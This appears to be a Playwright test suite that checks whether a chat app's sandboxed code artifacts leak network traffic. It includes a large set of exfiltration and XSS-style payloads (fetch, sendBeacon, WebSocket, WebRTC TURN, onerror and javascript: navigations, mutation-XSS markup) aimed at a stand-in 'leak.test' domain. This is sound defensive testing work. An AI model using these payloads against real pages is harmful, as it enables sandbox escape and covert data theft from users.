import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { chromium, type Page } from '@playwright/test'
import { chromiumLaunchOptions } from './support/browser.ts'
import { answers } from './support/chat-page.ts'
import { expect, test } from './support/fixtures.ts'

/** Domain of all requests that would leak; the first label names the exit. */
const LEAK_DOMAIN = 'leak.test'

/** Records everything that reaches it over TCP or UDP. */
async function startListener() {
  const received: string[] = []
  const tcp = createServer((socket) => {
    socket.on('error', () => socket.destroy())
    socket.once('data', (data) => received.push(data.toString('latin1').slice(0, 80)))
  }).listen(0, '127.0.0.1')
  const udp = createSocket('udp4').bind(0, '127.0.0.1')
  udp.on('message', (data) => received.push(`udp ${data.length}`))
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')])
  const { port } = tcp.address() as { port: number }
  return {
    received,
    url: `http://127.0.0.1:${port}`,
    udpPort: udp.address().port,
    stop: () => [tcp.close(), udp.close()],
  }
}

/** HTML with every exit that works without scripts. */
const passiveExits = (listener: string) => {
  const at = (name: string) => `https://${name}.${LEAK_DOMAIN}/x`
  return `
  <head><link rel="dns-prefetch" href="${at('dns-prefetch')}"><link rel="preconnect" href="${at('preconnect')}">
  <link rel="prefetch" href="${at('prefetch')}"><link rel="preload" as="image" href="${at('preload')}">
  <link rel="modulepreload" href="${at('modulepreload')}"><link rel="stylesheet" href="${at('stylesheet')}">
  <link rel="icon" href="${at('icon')}"><link rel="manifest" href="${at('manifest')}"><link rel="prerender" href="${at('prerender')}">
  <base href="${at('base')}"><meta http-equiv="x-dns-prefetch-control" content="on">
  <style>@import url("${at('import')}"); @font-face { font-family: f; src: url("${at('font')}") }
  body { font-family: f; background: url("${at('css-url')}"), image-set("${at('image-set')}" 1x) } ul { list-style: url("${at('list')}") }
  a::after { content: url("${at('content')}") } p { cursor: url("${at('cursor')}"), auto; mask: url("${at('mask')}#m") }</style></head>
  <body background="${at('body-background')}"><h1>Ready</h1><p>Text</p><ul><li>One</li></ul>
  <img src="${at('img')}" srcset="${at('srcset')} 1x"><img src="${listener}/img"><picture><source srcset="${at('source')}"><img></picture>
  <video src="${at('video')}" poster="${at('poster')}" autoplay></video><audio src="${at('audio')}" autoplay></audio>
  <video><track src="${at('track')}" default></video><input type="image" src="${at('input-image')}">
  <iframe src="${at('frame')}"></iframe><iframe srcdoc="<link rel=preconnect href=${at('srcdoc')}>"></iframe>
  <object data="${at('object')}"></object><embed src="${at('embed')}"><a href="${at('anchor')}" ping="${at('ping')}">Link</a>
  <svg><a href="${at('svg-anchor')}"><text y="20">Drawn link</text></a><image href="${at('svg-image')}" /><use href="${at('svg-use')}#a" />
  <a><animate attributeName="href" to="${at('animate')}" begin="0s" /><text y="40">Moving link</text></a></svg>
  <template shadowrootmode="open"><link rel="preconnect" href="${at('shadow')}"></template>
  <form action="${at('form')}"><button>Submit</button></form><button formaction="${at('formaction')}">Act</button>
  <svg></p><style><a id="</style><link rel=preconnect href=${at('mutation')}>"></svg>`
}

/** HTML with every exit that needs scripts, each in a separate one, so that a failure doesn't prevent the next. */
const scriptedExits = (listener: string, udpPort: number) => {
  const at = (name: string) => `https://${name}.${LEAK_DOMAIN}/x`
  const rtc = `new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls: 'turn:127.0.0.1:${udpPort}', username: 'secret',
    credential: 'x' }, { urls: 'turn:rtc.${LEAK_DOMAIN}', username: 'secret', credential: 'x' }] })`
  const offer = `const one = ${rtc}; one.createDataChannel('x'); one.createOffer().then((it) => one.setLocalDescription(it))`
  const tries = [
    `fetch('${at('fetch')}', { mode: 'no-cors', keepalive: true })`,
    `navigator.sendBeacon('${at('beacon')}', 'x')`,
    `new WebSocket('wss://websocket.${LEAK_DOMAIN}/')`,
    `new EventSource('${at('eventsource')}')`,
    `new WebTransport('${at('webtransport')}')`,
    `new Worker(URL.createObjectURL(new Blob(["importScripts('${at('import-scripts')}')"])))`,
    `import('${at('dynamic-import')}')`,
    `open('${at('popup')}')`,
    `new Image().src = '${listener}/script-img'`,
    offer,
    `const frame = document.createElement('iframe'); frame.srcdoc = "<script>${offer.replaceAll('\n', ' ')}</" + "script>";
     document.body.append(frame)`,
    `const hint = Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${at('script-preconnect')}' });
     document.head.append(hint)`,
  ]
  // the heading comes first, so that there is a body
  return `<h1>Ready</h1>${tries.map((code) => `<script>try { ${code} } catch {}</script>`).join('\n')}`
}

/** Download link, which navigates where the sandbox doesn't allow downloads. */
const downloadExit = `<h1>Ready</h1><a href="https://download.${LEAK_DOMAIN}/x" download="x">Link</a>
  <script>document.querySelector('a').click()</script>`

/** Exits that navigate away from the page, and so come last. */
const leavingExits = `<h1 onclick="location = 'https://handler.${LEAK_DOMAIN}/'">Ready</h1>
  <img src="x" onerror="location = 'https://onerror.${LEAK_DOMAIN}/'"><a href="javascript:location='https://javascript.${LEAK_DOMAIN}/'">Press</a>
  <script>location = 'https://location.${LEAK_DOMAIN}/'</script>`

const fenced = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\`\n\nThere it is.`

/** Opens the artifact of each of these answers, calls `act`, and returns the names of all exits that leaked. */
async function findLeaks({ server, account }: Fixtures, sources: [string, string][], act: Act): Promise<string[]> {
  const folder = await mkdtemp(path.join(tmpdir(), 'mira-net-log-'))
  const log = path.join(folder, 'net-log.json')
  const options = await chromiumLaunchOptions()
  // logs the lookups, connections and requests of the whole browser, including those that no page sees
  const browser = await chromium.launch({ ...options, args: [...options.args, `--log-net-log=${log}`] })
  const page = await browser.newPage({ baseURL: server.url, serviceWorkers: 'block' })
  await page.addInitScript((token) => {
    if (window.origin !== 'null') localStorage.setItem('token', token)
  }, account.token)
  await page.goto('/chat')
  for (const [index, [language, code]] of sources.entries()) {
    server.openAi.when(`source ${index}`, {
      text: `${fenced(language, code)} [More](https://answer-link.${LEAK_DOMAIN}/x)`,
    })
    const composer = page.getByRole('textbox', { name: 'Message' })
    await composer.fill(`Show source ${index}`)
    await composer.press('Enter')
    await expect(answers(page).last()).toContainText('There it is.')
    await page
      .getByRole('button', { name: /Show beside the conversation|Open to run it/ })
      .last()
      .click()
    await act(page)
    await page.getByRole('dialog', { name: language }).getByRole('button', { name: 'Close' }).click()
  }
  await page.goto(`https://control.${LEAK_DOMAIN}/`).catch(() => undefined)
  await browser.close()
  const text = await readFile(log, 'utf8')
  await rm(folder, { recursive: true })
  const names = text.match(new RegExp(`[\\w-]+(?=\\.${LEAK_DOMAIN.replace('.', '\\.')})`, 'g'))
  expect(names, 'names in the log').toContain('control')
  return [...new Set(names)].filter((name) => name !== 'control').sort()
}

test('an artifact leaks nothing before Run: no request, no connection, no DNS lookup', async ({ server, account }) => {
  test.slow()
  const listener = await startListener()
  const scripted = scriptedExits(listener.url, listener.udpPort)
  const passive = passiveExits(listener.url)
  const refresh = `<meta http-equiv="refresh" content="0;url=https://refresh.${LEAK_DOMAIN}/"><h1>Ready</h1>`
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="location='https://svg-onload.${LEAK_DOMAIN}'">
    <script>location = 'https://svg-script.${LEAK_DOMAIN}'</script><image href="https://svg-file.${LEAK_DOMAIN}/x" width="9" height="9" />
    <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://foreign.${LEAK_DOMAIN}/" /></foreignObject></svg>`
  const diagram = `flowchart LR\n  a["<img src=https://diagram-img.${LEAK_DOMAIN}/x onerror=location='https://diagram.${LEAK_DOMAIN}'>"] --> Ready\n  click a "https://diagram-link.${LEAK_DOMAIN}/"`
  const leaks = await findLeaks(
    { server, account },
    [
      ['html', passive],
      ['html', scripted],
      ['html', downloadExit],
      ['html', leavingExits],
      ['html', refresh],
      ['svg', drawing],
      ['mermaid', diagram],
    ],
    async (page) => {
      const frame = page.frameLocator('iframe')
      const isDrawing = await page.getByRole('dialog', { name: 'svg' }).isVisible()
      await expect(isDrawing ? frame.locator('img') : frame.frameLocator('iframe').getByText('Ready')).toBeVisible()
      // The headless browser ignores hints such as preconnect, so the addresses themselves must be gone. Those in styles are images
      // and fonts, which the policy blocks.
      const shown = isDrawing ? '' : await frame.frameLocator('iframe').locator('html').innerHTML()
      expect(shown.replace(/<style[\s\S]*?<\/style>/g, '')).not.toMatch(/\s(?!id=)[\w:-]+="[^"]*leak\.test/)
      // its links lead nowhere
      for (const name of ['Link', 'Press', 'Submit', 'Act', 'Drawn link', 'Moving link', 'Ready'])
        for (const element of await frame.frameLocator('iframe').getByText(name, { exact: true }).all())
          await element.click()
    },
  )
  expect(leaks).toEqual([])
  expect(listener.received).toEqual([])
  listener.stop()
})

test('scripts reach no network, and a running page sends data only by WebRTC', async ({ server, account }) => {
  test.slow()
  const listener = await startListener()
  const at = (name: string) => `https://${name}.${LEAK_DOMAIN}/x`
  const worker = `const tries = [
    () => fetch('${at('worker-fetch')}'), () => new XMLHttpRequest(), () => new WebSocket('${at('worker-websocket')}'),
    () => new EventSource('${at('worker-events')}'), () => importScripts('${at('worker-scripts')}'),
    () => new WebTransport('${at('worker-transport')}'), () => new Worker('${at('worker-worker')}'),
    () => import('${at('worker-import')}'),
  ]
  for (const one of tries) try { await one(); console.log('open', String(one)) } catch {}
  console.log('done', typeof document)`
  const scriptLeaks = await findLeaks({ server, account }, [['javascript', worker]], async (page) => {
    await page.getByRole('button', { name: 'Run', exact: true }).click()
    const output = page.getByRole('log', { name: 'Output' })
    await expect(output).toContainText('done undefined')
    await expect(output).not.toContainText('open')
  })
  expect(scriptLeaks).toEqual([])

  const run = async (page: Page) => {
    await page.getByRole('button', { name: 'Run', exact: true }).click()
    await expect(page.getByText('This page is running')).toBeVisible()
  }
  const pageLeaks = await findLeaks(
    { server, account },
    [['html', scriptedExits(listener.url, listener.udpPort)]],
    async (page) => {
      await run(page)
      await expect.poll(() => listener.received.length).toBeGreaterThan(0)
    },
  )
  // WebRTC, which docs/security.md lists, bypasses the log but reaches the listener.
  expect(pageLeaks).toEqual([])
  expect(listener.received.every((data) => data.startsWith('udp'))).toBe(true)
  listener.stop()
})

type Fixtures = { server: import('./support/server.ts').TestServer; account: import('./support/server.ts').Account }
type Act = (page: Page) => Promise<void>
